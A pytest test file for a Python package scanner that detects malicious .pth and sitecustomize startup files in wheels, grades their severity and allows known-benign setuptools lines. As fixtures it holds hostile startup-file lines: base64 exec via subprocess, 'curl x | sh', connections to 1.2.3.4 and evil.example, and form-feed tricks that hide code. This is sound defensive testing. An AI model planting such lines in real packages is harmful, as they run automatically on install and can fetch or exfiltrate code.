"""The startup-file rules: which names count, severity from content, the benign allow-list."""

from __future__ import annotations

from pathlib import Path

import msgspec.structs
import pytest

from spip.checks.startup_rules import Seen, classify, finding, is_startup_name, startup_entry
from spip.index.wheelzip import destination
from spip.policy.findings import Severity

# The exact content setuptools (60 and later, up to today's 8x) installs.
DISTUTILS_PRECEDENCE = (
    b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') "
    b"== 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)
# setuptools' namespace .pth lines, as setuptools.namespaces generates them (current
# form, nested namespace, and the pre-3.5 form still found in old wheels).
NSPKG_NEW = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
    "sys._getframe(1).f_locals['sitedir'], *('google', 'cloud'));importlib = has_mfs and "
    "__import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs "
    "and sys.modules.setdefault('google.cloud', importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec('google.cloud', [os.path.dirname(p)])));"
    "m = m or sys.modules.setdefault('google.cloud', types.ModuleType('google.cloud'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);"
    "m and setattr(sys.modules['google'], 'cloud', m)\n"
)
NSPKG_OLD = (
    "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));"
    "ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and "
    "sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and "
    "m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)
LITELLM_STYLE = (
    b"import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
    b"'import base64; exec(base64.b64decode(\"aW1wb3J0IG9z\"))'])\n"
)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("foo.pth", True),
        ("sitecustomize.py", True),
        ("usercustomize.py", True),
        ("sitecustomize.pyc", True),
        ("sitecustomize.cpython-311-x86_64-linux-gnu.so", True),
        ("sitecustomize", True),  # a package folder is imported the same way
        ("sitecustomize_helper.py", False),
        ("foo.pth.txt", False),
        ("foo.py", False),
        ("sitecustomize.txt", False),
    ],
)
def test_startup_names(name: str, expected: bool) -> None:
    assert is_startup_name(name) is expected


@pytest.mark.parametrize(
    ("member", "entry"),
    [
        ("evil.pth", "evil.pth"),
        ("pkg/evil.pth", None),  # not at the root: site.py never reads it
        ("demo-1.0.data/purelib/evil.pth", "evil.pth"),
        ("demo-1.0.data/platlib/sitecustomize.py", "sitecustomize.py"),
        ("demo-1.0.data/data/lib/python3.12/site-packages/evil.pth", "evil.pth"),
        ("demo-1.0.data/data/Lib/site-packages/usercustomize.py", "usercustomize.py"),
        ("demo-1.0.data/scripts/evil.pth", None),
        ("demo-1.0.data/data/share/evil.pth", None),
        ("sitecustomize/__init__.py", "sitecustomize"),
        ("demo/__init__.py", None),
        ("demo-1.0.dist-info/RECORD", None),
    ],
)
def test_startup_entry_of_wheel_members(member: str, entry: str | None) -> None:
    assert startup_entry(destination(member)) == entry


@pytest.mark.parametrize(
    "member",
    [
        "pkg/../x.pth",
        "./x.pth",
        "pkg//../x.pth",
        "demo-1.0.data/purelib/./x.pth",
        "demo-1.0.data//platlib/x.pth",
        "demo-1.0.data/data/lib/python3.12/site-packages/../site-packages/x.pth",
    ],
)
def test_every_spelling_pip_lands_at_the_root_is_a_startup_file(member: str) -> None:
    assert startup_entry(destination(member)) == "x.pth"


def test_a_form_feed_does_not_end_a_pth_line_before_python_3_13() -> None:
    """3.10-3.12 read a .pth as text (universal newlines only): one line, executed whole."""
    line = b"import os\x0c;exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
    verdict = classify("x.pth", line)
    assert verdict.severity is Severity.HIGH
    assert verdict.lines[0].startswith("import os\\x0c;exec(") and "b64decode" in verdict.lines[0]
    for sep in ("\x0b", "\x1c", "\x1d", "\x1e"):
        assert classify("x.pth", f"import os{sep};exec('1')".encode()).severity is Severity.HIGH


def test_a_line_only_python_3_13_splits_off_is_judged_too() -> None:
    """3.13+ split with str.splitlines(): a path line can hide an import line there."""
    verdict = classify("x.pth", b"/opt/somewhere\x0cimport os; os.system('id')\n")
    assert verdict.severity is Severity.HIGH
    assert verdict.lines == ("import os; os.system('id')",)


def test_an_unchanged_startup_file_is_low_at_most() -> None:
    verdict = classify("a1_coverage.pth", LITELLM_STYLE, unchanged_since="7.13.0")
    assert verdict.severity is Severity.LOW and "unchanged since 7.13.0" in verdict.reason
    assert classify("a.pth", b"/opt/a\n", unchanged_since="1.0").severity is Severity.LOW
    assert classify("distutils-precedence.pth", DISTUTILS_PRECEDENCE).severity is None


def test_path_only_pth_is_low() -> None:
    verdict = classify("demo.pth", b"# a comment\n/opt/demo/lib\n\nrelative/dir\n")
    assert verdict.severity is Severity.LOW
    assert "sys.path" in verdict.reason


def test_import_line_is_medium_and_shown() -> None:
    verdict = classify("demo.pth", b"/opt/demo\nimport demo_tracing; demo_tracing.install()\n")
    assert verdict.severity is Severity.MEDIUM
    assert verdict.lines == ("import demo_tracing; demo_tracing.install()",)


def test_only_lines_site_executes_count() -> None:
    # site.py executes a line only when it starts with "import " or "import\t".
    assert classify("a.pth", b" import os; os.system('x')\n").severity is Severity.LOW
    assert classify("a.pth", b"importlib\n").severity is Severity.LOW
    assert classify("a.pth", b"import\tos\n").severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "line",
    [
        LITELLM_STYLE,
        b"import os; exec(open('/tmp/x').read())\n",
        b"import base64, zlib; zlib.decompress(base64.b64decode('eJw='))\n",
        b"import marshal; marshal.loads(b'')\n",
        b"import os; os.system('curl x | sh')\n",
        b"import socket; socket.create_connection(('1.2.3.4', 80))\n",
        b"import urllib.request; urllib.request.urlopen('https://evil.example/x')\n",
        b"import sys; __import__('os').popen('id')\n",
    ],
)
def test_hidden_code_is_high(line: bytes) -> None:
    verdict = classify("x.pth", line)
    assert verdict.severity is Severity.HIGH
    assert verdict.lines


def test_offending_line_is_neutralised_and_shortened() -> None:
    line = b"import os; \x1b[2Jos.system('" + b"A" * 500 + b"')\n"
    verdict = classify("x.pth", line)
    assert verdict.severity is Severity.HIGH
    shown = verdict.lines[0]
    assert "\x1b" not in shown and "\\x1b" in shown
    assert len(shown) <= 160 and shown.endswith("…")


def test_distutils_precedence_is_benign() -> None:
    assert classify("distutils-precedence.pth", DISTUTILS_PRECEDENCE).severity is None
    older = DISTUTILS_PRECEDENCE.replace(b"'local') ==", b"'stdlib') ==")
    assert classify("distutils-precedence.pth", older).severity is None


def test_distutils_precedence_with_other_content_is_judged() -> None:
    tampered = DISTUTILS_PRECEDENCE + b"import os; os.system('id')\n"
    assert classify("distutils-precedence.pth", tampered).severity is Severity.HIGH
    # The known content under another name is still an import line.
    assert classify("other.pth", DISTUTILS_PRECEDENCE).severity is Severity.MEDIUM


def test_namespace_pth_is_benign() -> None:
    assert classify("google_cloud-1.0-py3.8-nspkg.pth", NSPKG_NEW.encode()).severity is None
    assert classify("zope.interface-5.0-py3.8-nspkg.pth", NSPKG_OLD.encode()).severity is None


def test_namespace_pth_with_an_extra_statement_is_not() -> None:
    line = NSPKG_OLD.rstrip("\n") + ";__import__('os').system('id')\n"
    assert classify("zope-nspkg.pth", line.encode()).severity is Severity.HIGH
    line = NSPKG_OLD.rstrip("\n") + ";import evil\n"
    assert classify("zope-nspkg.pth", line.encode()).severity is Severity.MEDIUM


def test_editable_pth_benign_only_for_an_editable_of_this_install(tmp_path: Path) -> None:
    finder = b"import __editable___my_proj_1_0_finder; __editable___my_proj_1_0_finder.install()\n"
    name = "__editable__.my_proj-1.0.pth"
    assert classify(name, finder).severity is Severity.MEDIUM
    editable = {"my-proj": tmp_path}
    assert classify(name, finder, editables=editable).severity is None
    assert classify(name, f"{tmp_path}/src\n".encode(), editables=editable).severity is None
    assert (
        classify(name, b"import os; os.system('x')\n", editables=editable).severity is Severity.HIGH
    )


def test_path_into_an_editable_project_is_benign(tmp_path: Path) -> None:
    editable = {"my-proj": tmp_path / "proj"}
    inside = f"{tmp_path}/proj/src\n".encode()
    assert classify("_my_proj.pth", inside, editables=editable).severity is None
    outside = f"{tmp_path}/elsewhere\n".encode()
    assert classify("_my_proj.pth", outside, editables=editable).severity is Severity.LOW


def test_sitecustomize_is_medium_or_high() -> None:
    assert (
        classify("sitecustomize.py", b"import sys\nsys.dont_write_bytecode = True\n").severity
        is Severity.MEDIUM
    )
    assert classify("usercustomize.py", b"import subprocess\n").severity is Severity.HIGH
    assert classify("sitecustomize", None).severity is Severity.MEDIUM


def test_finding_lists_files_and_lines() -> None:
    seen = [
        Seen("a.pth", classify("a.pth", b"/opt/a\n"), "aa"),
        Seen("b.pth", classify("b.pth", b"import b\n"), "bb"),
    ]
    f = finding("demo", "1.0", seen, where="in demo-1.0-py3-none-any.whl")
    assert f.check == "pth-file" and f.severity is Severity.MEDIUM
    assert f.evidence["files"] == ["a.pth", "b.pth"]
    assert "b.pth" in f.message and "import b" in f.message
    assert f.message.index("b.pth") < f.message.index("a.pth")  # most severe first


# ---- the pth-file check on real wheels served by the fake index ---------------------


def _check(fake_index, tmp_path: Path, path: Path, version: str = "1.0", *, hashed: bool = True):
    from spip.checks import pth_file
    from tests.support import planned_file as planned
    from tests.support import run_check

    dist = planned(fake_index, path, version)
    if not hashed:  # spip cannot verify it, so it does not fetch it: read remotely
        info = msgspec.structs.replace(dist.download_info, archive_info=None)
        dist = msgspec.structs.replace(dist, download_info=info)
    return run_check(pth_file.CHECK, fake_index, tmp_path, dist)


def test_check_reports_startup_files_of_the_wheel(fake_index, unique_name, tmp_path: Path) -> None:
    name = unique_name()
    files = {
        f"{name.replace('-', '_')}/__init__.py": "",
        "a_paths.pth": "/opt/x\n",
        "b_hook.pth": LITELLM_STYLE,
        f"{name.replace('-', '_')}-1.0.data/purelib/sitecustomize.py": "import sys\n",
    }
    path = fake_index.publish(name, "1.0", files=files)
    (f,) = _check(fake_index, tmp_path, path)
    assert (f.check, f.severity) == ("pth-file", Severity.HIGH)
    assert f.evidence["files"] == ["a_paths.pth", "b_hook.pth", "sitecustomize.py"]
    details = {d["file"]: d for d in f.evidence["details"]}
    assert details["a_paths.pth"]["severity"] == "LOW"
    assert details["sitecustomize.py"]["severity"] == "MEDIUM"
    assert "subprocess.Popen" in details["b_hook.pth"]["lines"][0]


def test_check_is_quiet_on_clean_and_benign_wheels(fake_index, unique_name, tmp_path: Path) -> None:
    name = unique_name()
    clean = fake_index.publish(name, "1.0")
    assert _check(fake_index, tmp_path, clean) == []
    benign = fake_index.publish(
        name, "1.1", files={"distutils-precedence.pth": DISTUTILS_PRECEDENCE}
    )
    assert _check(fake_index, tmp_path, benign, "1.1") == []


def test_without_a_verified_copy_the_check_fails_closed(
    fake_index, unique_name, tmp_path: Path
) -> None:
    name = unique_name()
    path = fake_index.publish(name, "1.0", files={"hook.pth": "import hook\n"})
    (f,) = _check(fake_index, tmp_path, path, hashed=False)
    assert (f.check, f.severity) == ("unverified", Severity.MEDIUM)
    assert path.name in f.message and "not checked" in f.message


@pytest.mark.parametrize("mode", ["refuse", "wrong-range", "truncate", "416", "drip"])
def test_a_server_that_botches_ranges_changes_nothing(
    fake_index, unique_name, tmp_path: Path, mode: str
) -> None:
    name = unique_name()
    path = fake_index.publish(name, "1.0", files={"evil.pth": LITELLM_STYLE})
    fake_index.drip_max_seconds = 1.0
    fake_index.set_range_mode(mode, path.name)
    (f,) = _check(fake_index, tmp_path, path)
    assert (f.check, f.severity) == ("pth-file", Severity.HIGH)


def _two_releases(fake_index, name: str, old: bytes | str, new: bytes | str):
    from tests.fakeindex import underscore_name

    module = {f"{underscore_name(name)}/__init__.py": ""}
    fake_index.publish(name, "7.13.0", files={**module, "a1_coverage.pth": old})
    return fake_index.publish(name, "7.13.1", files={**module, "a1_coverage.pth": new})


def test_a_hook_the_previous_release_shipped_unchanged_is_low(
    fake_index, unique_name, tmp_path: Path
) -> None:
    path = _two_releases(fake_index, unique_name(), LITELLM_STYLE, LITELLM_STYLE)
    (f,) = _check(fake_index, tmp_path, path, "7.13.1")
    assert (f.check, f.severity) == ("pth-file", Severity.LOW)
    assert "unchanged since 7.13.0" in f.message


def test_a_changed_hook_keeps_its_severity(fake_index, unique_name, tmp_path: Path) -> None:
    path = _two_releases(fake_index, unique_name(), "import cov; cov.start()\n", LITELLM_STYLE)
    (f,) = _check(fake_index, tmp_path, path, "7.13.1")
    assert (f.check, f.severity) == ("pth-file", Severity.HIGH)
